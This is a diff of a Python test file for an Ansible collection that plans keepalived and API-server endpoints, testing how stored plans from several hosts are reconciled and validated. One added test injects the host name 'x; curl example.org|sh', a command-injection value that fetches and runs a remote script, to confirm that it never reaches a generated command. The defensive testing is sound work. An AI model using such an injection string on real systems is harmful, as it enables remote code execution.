@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import copy
 import json
 import re
 import typing as t
@@ -15,7 +16,7 @@ import yaml
 from ansible_collections.kubeha.apiserver.plugins.module_utils import _addresses
 from ansible_collections.kubeha.apiserver.plugins.module_utils._errors import PlanError
 from ansible_collections.kubeha.apiserver.plugins.module_utils._plan import compute_plan
-from ansible_collections.kubeha.apiserver.plugins.module_utils._stored import spoken
+from ansible_collections.kubeha.apiserver.plugins.module_utils._planfile import join
 
 from . import planning
 from .planning import (
@@ -316,11 +317,9 @@ def test_hosts_that_cannot_be_asked_are_found_in_a_stored_plan() -> None:
 
 def test_what_keepalived_speaks_counts_where_its_turn_never_came() -> None:
     old, new = (plan(intent(virtual_router_id=number)) for number in (9, 77))
-    assert spoken(new, old) == old
-    assert spoken(new, None) == spoken(new, {"endpoints": []}) == spoken(new, plan(intent(name="other"))) == new
-    assert spoken(None, old) is None
-    refused = {name: spoken(new, old) for name in hosts()}
-    assert first(deployed=refused)["instances"][0]["virtual_router_id"] == 9
+    for speaks, number in ((old, 9), (None, 77), (plan(intent(name="other")), 77)):
+        deployed = {name: join(new, speaks) for name in hosts()}
+        assert first(deployed=deployed)["instances"][0]["virtual_router_id"] == number
 
 
 def test_an_address_that_was_a_vip_is_nobodys_own() -> None:
@@ -382,7 +381,7 @@ def test_interfaces_with_dangerous_names_are_ignored(interface: t.Any) -> None:
         found["endpoints"][0]["instances"][0]["members"][1]["interface"] = interface
     deployed = json.loads(json.dumps(deployed))
     known = known_with("cp2", networks=[])
-    assert codes(known=known, deployed=deployed) == ["interface_unknown"]
+    assert codes(known=known, deployed=deployed) == ["bad_stored_plan"] * 3 + ["interface_unknown"]
 
 
 # API servers
@@ -435,12 +434,68 @@ def test_another_endpoint_s_api_server_counts_too() -> None:
     assert [endpoint["port"] for endpoint in plan(wanted)["endpoints"]] == [8443, 6443]
 
 
-def test_the_most_preferred_balancer_tells_what_is_deployed() -> None:
-    """A run that was cut short left two ports behind."""
-    deployed = {**stored(plan(intent(port=9443))), "cp1": stored(plan(intent(port=7443)))["cp1"]}
-    assert "set endpoint_port to 7443" in problems(deployed=deployed)[0].fix
-    assert "set endpoint_port to 9443" in problems(
-        intent(lb_hosts=THREE[::-1]), deployed={name: deployed[name] for name in THREE[::1]})[0].fix
+@pytest.mark.parametrize("odd", THREE)
+def test_what_most_hosts_have_is_deployed_and_who_differs_is_named(odd: str) -> None:
+    """Wherever it stands in the order: its port, its virtual router ID, its address of a host that says nothing."""
+    most = stored(plan(intent(virtual_router_id=55)))
+    most[odd] = stored(plan(intent(virtual_router_id=7, port=7443)))[odd]
+    assert first(deployed=most)["instances"][0]["virtual_router_id"] == 55
+    told = [text for text in plan(deployed=most)["warnings"] if "[host_differs]" in text]
+    assert len(told) == 2 and all(text.startswith(odd + " stored 7") for text in told)
+    silent = {**hosts(), "cp4": {"inventory_address": "cp4"}}
+    wanted = intent(apiserver_hosts=[*THREE, "cp4"])
+    most = {name: copy.deepcopy(found) for name, found in stored(plan(wanted, {**hosts(), "cp4": host(14)})).items()}
+    for item in most[odd]["endpoints"][0]["backends"]:
+        if item["name"] == "cp4":
+            item["address"] = "198.51.100.66"
+    found = plan(wanted, silent, most)
+    assert found["endpoints"][0]["backends"][3]["address"] == "198.51.100.14"
+    assert any("[host_differs]" in text and odd in text and "66" in text for text in found["warnings"])
+
+
+def test_hosts_that_cannot_agree_are_asked_about() -> None:
+    """A run that was cut short left two values behind, and what was wanted isn't written any more."""
+    half = {"cp1": stored(plan(intent(virtual_router_id=55)))["cp1"],
+            "cp2": stored(plan(intent(virtual_router_id=7, port=7443)))["cp2"]}
+    assert codes(deployed=half) == ["hosts_disagree", "hosts_disagree"]
+    assert "8443 on cp1; 7443 on cp2" in next(item for item in problems(deployed=half) if "port" in item.where).rule
+    written = intent(virtual_router_id=7, port=7443)
+    assert first(written, deployed=half)["instances"][0]["virtual_router_id"] == 7
+    assert {"vrid_changes", "port_changes"} <= set(warned(written, deployed=half))
+    # One that is alone to say something is believed.
+    assert first(intent(port=7443), deployed={"cp2": half["cp2"]})["instances"][0]["virtual_router_id"] == 7
+
+
+def test_plans_that_cannot_be_read() -> None:
+    """A minority is told by the others; else going on could make two holders. Somebody may know better."""
+    whole = stored(plan(intent(virtual_router_id=55)))
+    newer = {name: dict(found, schema=2) for name, found in whole.items()}
+    assert codes(deployed=newer) == ["newer_stored_plan"] * 3
+    assert codes(deployed={**whole, "cp3": newer["cp3"]}) == ["newer_stored_plan"]
+    junk = {**whole, "cp3": {"schema": 1, "endpoints": [{"name": "kube-apiserver"}]}}
+    assert first(deployed=junk)["instances"][0]["virtual_router_id"] == 55
+    assert "deployed_unreadable" in warned(deployed=junk)
+    worse = {**junk, "cp2": 1, "cp1": {"schema": True}}
+    assert codes(deployed=worse) == ["bad_stored_plan"] * 3 and "cp1: " in problems(deployed=worse)[0].where
+    known = intent(accept_findings=["bad_stored_plan"], virtual_router_id=55, port=8443)
+    assert first(known, deployed=worse)["instances"][0]["virtual_router_id"] == 55
+
+
+def test_no_stored_plan_puts_words_into_a_command() -> None:
+    deployed = stored(plan(intent(lb_hosts=[*THREE, "cp4"]), {**hosts(), "cp4": host(14)}))
+    for found in deployed.values():
+        for member, name in zip(found["endpoints"][0]["instances"][0]["members"][2:], ("x; curl example.org|sh", "cp9")):
+            member["host"] = name
+    deployed = {name: json.loads(json.dumps(deployed[name])) for name in ("cp1", "cp2")}
+    [text] = [text for text in plan(deployed=deployed)["warnings"] if "[member_gone]" in text]
+    assert "endpoint_hosts=cp9 then" in text and "endpoint_hosts=x" not in text
+
+
+def test_one_host_cannot_make_the_addresses_of_others_vips() -> None:
+    deployed = stored(plan())
+    liar = copy.deepcopy(deployed["cp3"])
+    liar["endpoints"][0]["vips"].append({"address": "198.51.100.12", "prefix": 24, "family": "ipv4"})
+    assert places(deployed={**deployed, "cp3": liar}) == places()
 
 
 def test_a_renamed_endpoint_is_known_by_its_vip() -> None:
@@ -534,13 +589,13 @@ def test_a_host_that_cannot_be_asked_has_the_version_that_was_planned_for_it() -
     assert first(known=silent, deployed=deployed)["versions"]["keepalived"] == "2.2.7"
     assert warned(known=silent, deployed=deployed) == []
     older = {"cp3": stored(plan(known=known_with("cp3", keepalived_version="2.1.5")))["cp3"]}
-    assert first(known=silent, deployed={**older, "cp1": deployed["cp1"]})["versions"]["keepalived"] == "2.2.7"
+    assert first(known=silent, deployed={**older, "cp1": deployed["cp1"]})["versions"]["keepalived"] == "2.1.5"
     assert first(known=silent, deployed=older)["versions"]["keepalived"] == "2.1.5"
     newcomer = {**hosts(), "cp4": host(14, keepalived_version=None)}
     wanted = intent(lb_hosts=[*THREE, "cp4"])
     assert first(wanted, newcomer, deployed)["versions"]["keepalived"] == "2.1.5"
     deployed["cp1"]["endpoints"][0]["versions"] = {"keepalived": 10 ** 5000}
-    assert warned(known=silent, deployed={"cp1": deployed["cp1"]}) == ["deployed_unreadable", "version_unknown"]
+    assert "bad_stored_plan" in codes(known=silent, deployed={"cp1": deployed["cp1"]})
 
 
 @pytest.mark.parametrize(("more", "version", "expected"), [
